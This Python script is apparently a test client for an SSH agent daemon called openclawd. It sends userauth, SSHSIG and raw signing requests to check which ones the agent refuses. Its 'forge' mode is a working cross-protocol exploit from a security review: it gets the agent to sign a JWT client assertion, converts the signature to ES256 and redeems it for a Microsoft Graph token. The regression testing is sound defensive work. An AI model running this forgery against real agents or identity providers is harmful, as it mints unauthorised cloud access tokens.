#!/usr/bin/python3
# ssh-sign requests to openclawd for the tests, as the calling uid's agent.
#   ssh_sign_client.py SOCKET userauth [other-key|bad-alg|trailing|no-session|hostbound]
#   ssh_sign_client.py SOCKET sshsig NAMESPACE [sha256|sha512|short]
#   ssh_sign_client.py SOCKET raw HEX
#   ssh_sign_client.py SOCKET forge TOKEN_URL CA_FILE CERT_PEM APP_ID
# Prints SIGNED, REFUSED:<error>, NO-IDENTITY or CLOSED. "forge" is the
# attack of the security review: a client assertion JWT for APP_ID whose
# JWS signing input is given to ssh-sign; when a signature comes back it
# is turned into an ES256 JWS and redeemed at TOKEN_URL for a Graph token,
# printing SIGNED then REDEEMED:<http status> (200: the forgery worked).
import base64
import hashlib
import json
import os
import socket
import ssl
import struct
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid


def call(path, obj):
    body = json.dumps(obj).encode()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(20)
    s.connect(path)
    s.sendall(struct.pack(">I", len(body)) + body)
    buf = b""
    try:
        while len(buf) < 4 or len(buf) < 4 + struct.unpack(">I", buf[:4])[0]:
            chunk = s.recv(65536)
            if not chunk:
                break
            buf += chunk
    except ConnectionResetError:
        pass
    s.close()
    if len(buf) < 4:
        return None
    return json.loads(buf[4:4 + struct.unpack(">I", buf[:4])[0]])


def b64u(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def unb64u(s):
    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))


def sstr(b):
    return struct.pack(">I", len(b)) + b


def sign(path, key_b64, data, flags=0):
    a = call(path, {"type": "ssh-sign", "key": key_b64, "data": b64u(data), "flags": flags})
    if a is None:
        return "CLOSED", None
    if not a.get("ok"):
        return "REFUSED:%s" % a.get("error"), None
    return "SIGNED", unb64u(a["signature"])


def es256_from_ssh(sig):
    # string "ecdsa-sha2-nistp256", string (mpint r, mpint s)
    n = struct.unpack(">I", sig[:4])[0]
    inner = sig[4 + n + 4:]
    rl = struct.unpack(">I", inner[:4])[0]
    r = inner[4:4 + rl]
    sl = struct.unpack(">I", inner[4 + rl:8 + rl])[0]
    s = inner[8 + rl:8 + rl + sl]
    return r.lstrip(b"\0").rjust(32, b"\0") + s.lstrip(b"\0").rjust(32, b"\0")


def main():
    path, mode = sys.argv[1], sys.argv[2]
    ids = (call(path, {"type": "ssh-identities"}) or {}).get("identities", [])
    if not ids:
        print("NO-IDENTITY")
        return 0
    key_b64 = ids[0]["key"]
    blob = unb64u(key_b64)
    alg = blob[4:4 + struct.unpack(">I", blob[:4])[0]]
    flags = 0
    if alg == b"ssh-rsa":
        alg, flags = b"rsa-sha2-256", 2
    if mode == "userauth":
        variant = sys.argv[3] if len(sys.argv) > 3 else ""
        session = b"" if variant == "no-session" else os.urandom(32)
        key = blob
        if variant == "other-key":
            key = blob[:-1] + bytes([blob[-1] ^ 1])
        method = b"publickey-hostbound-v00@openssh.com" if variant == "hostbound" else b"publickey"
        data = (sstr(session) + b"\x32" + sstr(b"agent-alpha") + sstr(b"ssh-connection")
                + sstr(method) + b"\x01" + sstr(b"ssh-dss" if variant == "bad-alg" else alg)
                + sstr(key))
        if variant == "hostbound":
            data += sstr(b"\0\0\0\x0bssh-ed25519" + sstr(os.urandom(32)))
        if variant == "trailing":
            data += b"\0"
        print(sign(path, key_b64, data, flags)[0])
    elif mode == "sshsig":
        ns = sys.argv[3].encode()
        h = sys.argv[4] if len(sys.argv) > 4 else "sha512"
        digest = hashlib.sha512(b"message").digest() if h != "sha256" else hashlib.sha256(b"message").digest()
        if h == "short":
            h, digest = "sha512", digest[:20]
        data = b"SSHSIG" + sstr(ns) + sstr(b"") + sstr(h.encode()) + sstr(digest)
        print(sign(path, key_b64, data, flags)[0])
    elif mode == "raw":
        print(sign(path, key_b64, bytes.fromhex(sys.argv[3]), flags)[0])
    elif mode == "forge":
        token_url, ca, cert_pem, app_id = sys.argv[3:7]
        from cryptography import x509
        from cryptography.hazmat.primitives import serialization
        der = x509.load_pem_x509_certificate(open(cert_pem, "rb").read()).public_bytes(
            serialization.Encoding.DER)
        now = int(time.time())
        header = {"alg": "ES256", "typ": "JWT", "x5t": b64u(hashlib.sha1(der).digest()),
                  "x5t#S256": b64u(hashlib.sha256(der).digest())}
        claims = {"aud": token_url, "iss": app_id, "sub": app_id, "jti": str(uuid.uuid4()),
                  "nbf": now - 5, "iat": now - 5, "exp": now + 300}
        signing_input = (b64u(json.dumps(header).encode()) + "." +
                         b64u(json.dumps(claims).encode())).encode()
        result, sig = sign(path, key_b64, signing_input, flags)
        print(result)
        if sig is None:
            return 0
        assertion = signing_input.decode() + "." + b64u(es256_from_ssh(sig))
        body = urllib.parse.urlencode({
            "grant_type": "client_credentials", "client_id": app_id,
            "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
            "client_assertion": assertion,
            "scope": "https://graph.microsoft.com/.default"}).encode()
        ctx = ssl.create_default_context(cafile=ca)
        try:
            with urllib.request.urlopen(urllib.request.Request(token_url, data=body),
                                        context=ctx, timeout=20) as r:
                print("REDEEMED:%d" % r.status)
        except urllib.error.HTTPError as e:
            print("REDEEMED:%d" % e.code)
    else:
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
